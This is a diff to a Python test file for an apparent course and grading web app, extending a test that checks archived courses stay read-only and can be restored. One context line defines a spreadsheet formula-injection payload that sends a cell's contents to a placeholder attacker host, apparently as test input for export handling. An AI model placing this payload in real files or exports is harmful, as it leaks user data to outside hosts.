@@ -20,6 +20,7 @@ from app.grading.grade import grade
 from app.store import ClassSheetKey, Graded, Plan, Policies, Student, Teacher, VariantSizes
 from app.store.classwork import ClassDraft
 from app.store.tables import audit_log, metadata
+from tests.helpers.clock import Clock
 from tests.helpers.school import School
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"look")'
@@ -231,7 +232,7 @@ def roles(taught: Taught, role: str) -> Teacher:
     return taught.school.teacher(f"{role}@example.org", taught.course, "assistant" if role == "bo" else "instructor")
 
 
-def test_an_archived_course_is_read_and_not_changed(taught: Taught) -> None:
+def test_an_archived_course_is_read_and_not_changed(taught: Taught, clock: Clock) -> None:
     """Out of the list, no way in, nothing taken in, nothing changed, all to be seen and taken home; and back again."""
     course, activity = f"/courses/{taught.course.id}", f"/activities/{taught.activity.id}"
     max_, visitor = taught.school.student(taught.course, "Max")
@@ -250,11 +251,14 @@ def test_an_archived_course_is_read_and_not_changed(taught: Taught) -> None:
         assert {ada.get(path).status_code for path in (course, activity, f"{course}/exports")} == {200}
         assert "Edit" not in ada.get(activity).text
         assert ada.get(f"{course}/exports/attempts.csv").status_code == 200
+        clock.pass_minutes(1)  # what was on its way has come
         assert browser.post(f"{sheet}/save", data={"queries.rows": "2"}).status_code == 409
         assert browser.post(f"{sheet}/hand-in", data={"queries.rows": "2"}).status_code == 409
         assert browser.get(sheet).status_code == 200
         assert browser.get(f"/join/{taught.activity.join_code}").status_code == 404
         assert ada.post(f"{course}/bring-back").status_code == 303
+        assert browser.post(f"{sheet}/save", data={"queries.rows": "2"}).status_code == 409
+        assert ada.post(f"{activity}/open").status_code == 303
         assert browser.post(f"{sheet}/save", data={"queries.rows": "2"}).status_code == 200
         assert browser.get(f"/join/{taught.activity.join_code}").status_code == 200
         assert "Archived" not in ada.get("/courses").text
